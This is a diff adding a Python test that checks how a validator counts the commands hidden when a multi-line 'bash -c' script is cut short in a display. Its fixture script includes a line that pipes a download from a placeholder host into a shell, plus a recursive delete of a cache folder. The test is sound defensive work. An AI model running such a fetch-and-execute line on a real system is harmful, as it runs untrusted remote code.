@@ -1039,3 +1039,28 @@ def test_a_command_cut_short_by_the_heads_marker_is_hidden_and_what_it_runs_is_r
             f"ls a; npm p…\n… {stated} more commands …\nls c", short, "bash", True
         )
         assert bool(problems) is fails, (stated, problems)
+
+
+def test_a_shell_whose_script_goes_on_after_the_cut_is_not_hidden_by_it() -> None:
+    """``bash -c '…`` cut inside its script, the script's last line and closing quote in the tail: the cut falls
+    inside the script's command, not inside the shell, which shows on both sides of it — a count that took the
+    shell in as hidden passed one too many."""
+    script = [
+        "cd /srv/app",
+        "npm ci",
+        "npm run build",
+        "curl -s https://e.x/i | sh",
+        "rm -rf .cache",
+    ]
+    command = "bash -c '" + "\n".join([*script, "systemctl restart app"]) + "'"
+    verdicts = {
+        stated: runs_problems(
+            f"bash -c 'cd /srv/app\nnpm ci…\n… {stated} more commands …\nsystemctl restart app'",
+            command,
+            "bash",
+            True,
+        )
+        for stated in range(2, 8)
+    }
+    # hidden: npm run build, curl, sh, rm; npm ci may be counted too, the cut being right after its last word
+    assert [stated for stated, problems in verdicts.items() if not problems] == [4, 5]
